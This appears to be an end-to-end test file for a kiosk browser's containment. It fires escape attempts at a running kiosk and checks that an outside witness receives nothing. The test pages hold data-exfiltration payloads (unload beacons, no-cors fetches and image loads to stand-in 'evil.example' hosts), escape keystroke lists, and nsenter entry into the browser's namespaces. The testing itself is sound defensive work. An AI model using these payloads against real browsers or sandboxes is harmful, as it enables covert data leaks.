"""No way out: every known escape, tried for real in a whole running kiosk, with a witness outside.

FACTS, “Known escapes”; policy rows H2, H12, H13, H21, S3, S10; invariants 4 and 5.

Nothing is dragged in from outside: no other window is on the glass, and what dragging needs of a compositor
(`wl_data_device_manager`) does not exist for the browser (tests/browser/test_glass.py). A drop that DevTools
makes up is in tests/browser/test_page.py.
"""

from __future__ import annotations

import fcntl
import json
import os
import re
import signal
import socket
import subprocess
from pathlib import Path
from typing import Any

import pytest

from kiosk.protocol import Scene, Tap
from tests.e2e.breakout.bare import bare_chromium
from tests.e2e.breakout.conftest import PAPER, RED, RUNNER, START, TRAP_COLOUR, Breakout, settle, wait_until
from tests.e2e.breakout.escapes import DOOR, FRAMES, MOVES, SAID, STAYS, WHOLE
from tests.e2e.breakout.trap import Trap, page
from tests.e2e.breakout.witness import Witness
from tests.e2e.conftest import comes, share
from tests.e2e.fingers import insist

HERE = Path(__file__).parent
EGRESS, PROGRAM = (HERE / "egress.js").read_text(), (HERE / "program.py").read_text()
BY_ADDRESS = {"address", "address-odd", "address-plain", "address-six"}  # these have no name of their own
IN_DATAGRAMS = {"stun", "stun-by-address", "web-transport"}
NOT_IN_A_CONTROL = {
    "turn-tcp",
    "dns-prefetch",
}  # the first says no name; the second asks this system's own DNS
STUN = re.compile("0001.*2112a442")  # a binding request and its magic cookie (RFC 8489), in hex
QUIC = re.compile("[cde]")  # the long header (RFC 9000), in hex


def serve_egress(trap: Trap, witness: Witness) -> tuple[str, dict[str, str]]:
    """The page that tries everything, as a body and headers."""
    trap.told.clear()
    worker = b"fetch(decodeURIComponent(location.search.slice(1)), {mode: 'no-cors'})"
    trap.pages["/ok/worker.js"] = (200, {"Content-Type": "text/javascript"}, worker)
    report = f"https://report.evil.example:{witness.tls}/"
    headers = {
        "Content-Security-Policy-Report-Only": f"img-src 'none'; report-uri {report}",
        "Link": f"<https://link-header.evil.example:{witness.tls}/>; rel=preconnect",
    }
    return f"<script>{EGRESS}; tryAll({witness.tls}, {witness.plain})</script>", headers


def own_names(witness: Witness) -> set[str]:
    """The hosts that were reached, by the names that the attempts gave them."""
    return {name.removesuffix(".evil.example") for name in witness.by("sni", "http")}


def test_control_from_a_bare_chromium_all_of_it_arrives(trap: Trap, witness: Witness) -> None:
    """Outside the kiosk the same page reaches the witness: so the witness sees, and the attempts are real."""
    body, headers = serve_egress(trap, witness)
    trap.pages[START] = page(body, **headers)
    unseen = BY_ADDRESS | IN_DATAGRAMS | NOT_IN_A_CONTROL
    with bare_chromium(f"{trap.origin}{START}"):
        wait_until(lambda: "egress" in trap.told)
        tried = json.loads(trap.told["egress"])
        assert {name: said for name, said in tried.items() if said != "tried"} == {}
        others = {"report", "link-header", "127.0.0.1", "[::ffff:7f00:1]"}
        wait_until(lambda: set(tried) - unseen | others <= own_names(witness))
        wait_until(lambda: any(STUN.match(data) for data in witness.by("udp")))
        wait_until(lambda: any(QUIC.match(data) for data in witness.by("udp")))
        assert set(tried) - own_names(witness) == unseen
    witness.forget()


def test_nothing_that_a_page_asks_for_reaches_anybody_but_its_own_site(breakout: Breakout) -> None:
    body, headers = serve_egress(breakout.trap, breakout.witness)
    breakout.opens(body, **headers)
    wait_until(lambda: "egress" in breakout.trap.told)
    settle(1)
    assert breakout.witness.seen == []
    assert [path for host, path in breakout.trap.asked if path.startswith("/ok/worker.js")]  # it did try


UNLOAD = ("beacon", "keepalive", "image")


def unloading(witness: Witness, then: str = "") -> str:
    """A page that calls out as it is left, and tells its own site that it did."""
    hosts = [f"https://{name}-on-unload.evil.example:{witness.tls}/" for name in UNLOAD]
    return f"""<script>addEventListener('pagehide', () => {{
        navigator.sendBeacon('{hosts[0]}', 'x');
        fetch('{hosts[1]}', {{mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'}});
        new Image().src = '{hosts[2]}';
        navigator.sendBeacon('/ok/tell', JSON.stringify({{leaving: 'tried'}}));
    }}); {then}</script>"""


def test_control_a_bare_chromium_lets_a_page_call_out_as_it_is_left(trap: Trap, witness: Witness) -> None:
    trap.told.clear()
    trap.pages[START] = page(unloading(witness, "setTimeout(() => { location = '/ok/other' }, 300)"))
    with bare_chromium(f"{trap.origin}{START}"):
        wait_until(lambda: "leaving" in trap.told)
        wait_until(lambda: witness.by("sni") >= {f"{name}-on-unload.evil.example" for name in UNLOAD[:2]})
    witness.forget()


def test_a_page_that_calls_out_as_it_is_left_reaches_nobody(breakout: Breakout) -> None:
    breakout.trap.told.clear()

    def leave() -> None:
        breakout.opens(unloading(breakout.witness))
        breakout.kiosk.tap(Tap.HOME)
        breakout.kiosk.until(Scene.HOME)

    # A screen too late to say that the page has gone costs it its browser, before it has called.
    insist(leave, lambda: comes(lambda: "leaving" in breakout.trap.told, 5))
    settle(1)
    assert breakout.witness.seen == []


@pytest.mark.parametrize("name", DOOR)
def test_a_way_off_the_list_is_a_closed_door_and_the_page_stays_behind_it(
    breakout: Breakout, name: str
) -> None:
    breakout.leads_off(name, DOOR[name])
    breakout.meets_the_door()
    assert breakout.witness.seen == []


def test_control_a_way_to_a_listed_page_is_open(breakout: Breakout) -> None:
    breakout.trap.pages["/there"] = page("<p>there")
    before = len(breakout.trap.asked)
    breakout.tries("listed", f"location = '{breakout.trap.cousin}/there'")
    wait_until(lambda: ("cousin.example", "/there") in breakout.trap.asked[before:])
    wait_until(lambda: breakout.kiosk.view.back)
    breakout.dirty = True


@pytest.mark.parametrize("name", STAYS)
def test_what_a_page_may_not_do_has_no_effect(breakout: Breakout, name: str) -> None:
    breakout.tries(name, STAYS[name])
    breakout.stays(name)
    assert re.match(SAID.get(name, "done"), breakout.trap.told[name])
    assert breakout.witness.seen == []


@pytest.mark.parametrize("name", MOVES)
def test_what_moves_a_page_among_its_own_shows_nothing_else(breakout: Breakout, name: str) -> None:
    breakout.tries(name, MOVES[name])
    wait_until(lambda: name in breakout.trap.told, 10)
    settle(1)  # it moves after that, and what did not move cannot be waited for
    breakout.stays()
    breakout.dirty = True  # a finger during a move would be lost with the page it was on
    assert breakout.trap.told[name] == "done"
    assert breakout.witness.seen == []


def test_control_a_listed_frame_is_seen(breakout: Breakout) -> None:
    for _ in range(2):  # on a page that was only just opened, the first was once not seen
        breakout.tries("listed frame", f"add('iframe', {{src: '/ok/red', {WHOLE}}})")
        if comes(lambda: breakout.share(RED) == 1, 10):
            break
    assert breakout.share(RED) == 1
    breakout.dirty = True


@pytest.mark.parametrize("name", FRAMES)
def test_where_a_frame_is_refused_the_page_or_paper_is_seen_and_no_words_of_chromiums(
    breakout: Breakout, name: str
) -> None:
    breakout.tries(name, FRAMES[name])
    wait_until(lambda: name in breakout.trap.told, 10)
    breakout.dirty = True
    for _ in range(6):  # also while it is being refused
        assert breakout.shows_only(TRAP_COLOUR, PAPER)
    assert breakout.kiosk.view.scene is Scene.PAGE
    assert breakout.witness.seen == []


def test_a_page_that_wants_a_password_does_not_come_and_no_window_asks_for_it(breakout: Breakout) -> None:
    """What comes with the 401 is an error, and no page."""
    before = len(breakout.trap.asked)
    breakout.tries("signing in", "location = '/ok/who'")
    wait_until(lambda: "/ok/who" in {path for _, path in breakout.trap.asked[before:]})
    settle(1)
    breakout.stays()


def test_nothing_of_it_comes_late(breakout: Breakout) -> None:
    breakout.tries("nothing", "")
    settle(1.5)
    breakout.stays("nothing")
    assert breakout.witness.seen == []


def test_a_page_that_closes_itself_is_kindly_put_to_sleep(breakout: Breakout) -> None:
    breakout.dirty = True  # a window that has a history may not close itself
    breakout.tries("close", "window.close()")
    breakout.kiosk.until(Scene.HOME, lambda view: view.asleep == "trap")
    wait_until(breakout.kiosk.browsers)


KEYS = (
    *("ctrl+n", "ctrl+t", "ctrl+shift+n", "ctrl+shift+t", "ctrl+w", "ctrl+o", "ctrl+p", "ctrl+s", "ctrl+u"),
    *("ctrl+l", "ctrl+h", "ctrl+j", "ctrl+k", "ctrl+f", "ctrl+r", "ctrl+d", "ctrl+plus", "ctrl+q"),
    *("ctrl+shift+i", "ctrl+shift+j", "ctrl+shift+c", "ctrl+shift+q", "ctrl+shift+delete", "shift+Escape"),
    *("F1", "F3", "F5", "F6", "F7", "F11", "Menu", "Print", "Super_L", "Escape"),
    *("alt+Home", "alt+Left", "alt+d", "alt+f", "alt+Tab", "alt+F4", "ctrl+F4", "ctrl+Tab"),
    *("ctrl+alt+t", "ctrl+alt+Delete", "ctrl+alt+BackSpace", "ctrl+v", "ctrl+a", "a", "Tab"),
    *("XF86HomePage", "XF86Search", "XF86Back", "XF86WWW", "XF86Mail", "XF86Explorer"),
)
"""Not here: F12, F9 and F10, the simulated red button and badges of a demonstration, nothing on a real kiosk;
Enter and space, which press what our own ring is round. Tab and the arrows move that ring, in the bar. All of
them are typed where our screen does not hear them."""
LISTENS = """<script>
addEventListener('keydown', ({ key }) =>
    fetch('/ok/tell', { method: 'POST', body: JSON.stringify({ [`key ${key}`]: 'heard' }) }), true);
</script>"""


def test_no_key_has_an_effect_on_the_browser_even_after_a_press_on_the_page(breakout: Breakout) -> None:
    breakout.opens(RUNNER + LISTENS)
    kiosk = breakout.kiosk
    before, alive = kiosk.browser(), len(breakout.trap.asked)
    for keys in (KEYS[n : n + 6] for n in range(0, len(KEYS), 6)):
        breakout.touches()
        kiosk.hands.type(*keys)
    breakout.stays()
    assert not [name for name in breakout.trap.told if name.startswith("key ")]
    assert kiosk.browser() == before
    assert START not in {path for _, path in breakout.trap.asked[alive:]}  # nothing loaded the page again


def focused(breakout: Breakout, command: str = "nop") -> str:
    """Whose window has the keyboard, after this command to sway."""
    sway = ["swaymsg", "-s", str(Path(breakout.kiosk.facts["runtime_dir"]) / "sway.sock")]
    subprocess.run([*sway, command], check=True, timeout=10, stdout=subprocess.DEVNULL)
    told = subprocess.run([*sway, "-t", "get_tree"], check=True, timeout=10, capture_output=True)
    nodes = [json.loads(told.stdout)]
    for node in nodes:
        nodes += [*node["nodes"], *node["floating_nodes"]]
    return next(str(node.get("app_id")) for node in nodes if node["focused"])


def test_no_key_not_even_f12_is_heard_by_a_browser_whose_window_has_the_keyboard_s3(
    breakout: Breakout,
) -> None:
    """The worst case: our screen takes the keyboard back at once, so for this it has to stand still.

    (A press on the page gives it away too: sway gives it to the window under a press.)
    """
    breakout.opens(RUNNER + LISTENS)
    kiosk = breakout.kiosk
    screen, alive = kiosk.facts["pids"]["screen"], len(breakout.trap.asked)
    os.kill(screen, signal.SIGSTOP)
    try:
        breakout.touches()
        assert focused(breakout, '[app_id="chromium"] focus') == "chromium"
        kiosk.hands.type(*KEYS, "F9", "F10", "F12", "Return", "space")
        assert focused(breakout) == "chromium"
        wait_until(breakout.untouched, 5)
    finally:
        os.kill(screen, signal.SIGCONT)
    wait_until(lambda: focused(breakout) == "kiosk-screen", 5)
    settle(0.5)
    assert not [name for name in breakout.trap.told if name.startswith("key ")]
    assert START not in {path for _, path in breakout.trap.asked[alive:]}
    assert kiosk.view.panic is None  # so the red button's key went where the others did
    breakout.stays()


PRESSED = """<script>for (const kind of ['pointerdown', 'wheel'])
    addEventListener(kind, () => fetch('/ok/tell', { method: 'POST', body: '{"press": "felt"}' }), true);
</script>"""


PRESSES = {
    "right": ["click", "3"],
    "middle": ["click", "2"],
    "ctrl": ["keydown", "ctrl", "click", "1", "keyup", "ctrl"],
    "shift": ["keydown", "shift", "click", "1", "keyup", "shift"],
    "zoom": ["keydown", "ctrl", "click", "4", "click", "5", "keyup", "ctrl"],
    "thumb": ["click", "8", "click", "9"],  # a mouse's own back and forward, which Chromium keeps for itself
    "drag": ["mousedown", "1", "mousemove_relative", "300", "-200", "mouseup", "1"],  # also onto the bar
    "long press": ["mousedown", "1", "sleep", "1", "mouseup", "1"],
}
CLICKS = {"ctrl", "shift", "long press"}  # no key comes to a page, so for it these are plain ones


@pytest.mark.parametrize("name", PRESSES)
def test_no_way_to_press_opens_anything(breakout: Breakout, name: str) -> None:
    evil = f"https://press.evil.example:{breakout.witness.tls}/"
    link = f"<a style='position: fixed; inset: 0' href='{evil}' target=_blank></a>"
    breakout.trap.told.clear()
    breakout.opens(PRESSED + link)
    wait_until(breakout.untouched, 10)
    area = breakout.kiosk.page_area()
    place = ("mousemove", str(area.centerx), str(area.y + 100))
    insist(
        lambda: breakout.kiosk.hands._xdotool(*place, *PRESSES[name]),
        lambda: name == "thumb" or comes(lambda: "press" in breakout.trap.told, 10),
    )
    if name in CLICKS:
        breakout.meets_the_door()
    else:
        settle(1)
        breakout.stays()
    breakout.dirty = True
    assert breakout.witness.seen == []


NS_GET_PARENT = 0xB702  # ioctl_ns(2)


def inside(breakout: Breakout, question: dict[str, Any]) -> dict[str, Any]:
    """What a program finds in the namespaces of the browser that is running.

    It has more than the browser: every capability over the network namespace, because it enters through the
    user namespace that owns it, the parent of the browser's own.
    """
    pid = breakout.kiosk.browser()
    with open(f"/proc/{pid}/ns/user") as own:
        owner = fcntl.ioctl(own, NS_GET_PARENT)
    enter = ["nsenter", f"--target={pid}", f"--user=/proc/self/fd/{owner}", "--net", "--pid", "--mount"]
    try:
        return run([*enter, "--ipc", "--uts", "--preserve-credentials"], question, (owner,))
    finally:
        os.close(owner)


def run(prefix: list[str], question: dict[str, Any], fds: tuple[int, ...] = ()) -> dict[str, Any]:
    command = [*prefix, "/usr/bin/python3", "-I", "-c", PROGRAM, json.dumps(question)]
    done = subprocess.run(
        command, capture_output=True, text=True, timeout=90, check=False, cwd="/", pass_fds=fds
    )
    assert done.returncode == 0, done.stderr
    return dict(json.loads(done.stdout))


def test_no_program_in_the_browsers_place_reaches_anybody(breakout: Breakout) -> None:
    witness, facts = breakout.witness, breakout.kiosk.facts
    breakout.opens(RUNNER)
    runtime = Path(facts["runtime_dir"])
    display = facts["display"].removeprefix(":")
    abstract = f"kiosk-breakout-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as listener, socket.socket(socket.AF_UNIX) as bus:
        listener.bind("\0" + abstract)
        listener.listen()
        bus.bind(str(runtime.parent / "bus"))  # as a D-Bus would
        bus.listen()
        question = {
            "addresses": witness.addresses,
            "tls": witness.tls,
            "plain": witness.plain,
            "dns": witness.dns,
            "unix": [
                facts["guardian_socket"],
                str(runtime / facts["wayland_display"]),
                str(runtime / "sway.sock"),
                str(runtime.parent / "bus"),
                f"/tmp/.X11-unix/X{display}",
            ],
            "abstract": [abstract],
        }
        out = run([], question)
        wait_until(lambda: len([how for how, _ in witness.seen if how == "udp"]) == len(witness.addresses))
        arrived = witness.by("http", "sni", "dns", "connection")
        witness.forget()
        found = inside(breakout, question | {"door": f"trap.example:{breakout.trap.port}"})
    failed = {name: how for name, how in out.items() if " " in name and how != "reached"}
    assert not failed, witness.ended  # the control: outside, all of it can be done
    assert {"program.evil.example", "tcp", "tls"} <= arrived
    assert witness.seen == []
    reached = {name for name, how in found.items() if how == "reached"}
    assert reached == {"udp 127.0.0.1", "udp ::1"}  # its own loopback, where nobody listens
    asked_the_door = {how for name, how in found.items() if name.startswith(("CONNECT", "GET"))}
    assert asked_the_door == {"HTTP/1.1 400 ", "HTTP/1.1 403 "}
    assert found["door, open"].startswith("HTTP/1.1 200")
    assert found["interfaces"] == ["lo"]
    assert found["visible"] == []
    assert breakout.kiosk.facts["pids"]["guardian"] not in found["processes"]
    breakout.stays()


def test_after_all_of_it_the_red_button_still_ends_everything_h3(breakout: Breakout) -> None:
    kiosk = breakout.kiosk
    breakout.opens("")
    kiosk.hands.type("F12")  # the demonstration's red button, and nothing of Chromium's
    kiosk.until(Scene.PANIC, lambda view: view.panic is not None and view.panic.internet == "off")
    wait_until(lambda: not kiosk.browsers())
    dark = kiosk.look("panic")
    assert share(dark, dark.get_rect(), TRAP_COLOUR) == 0
    assert breakout.witness.seen == []
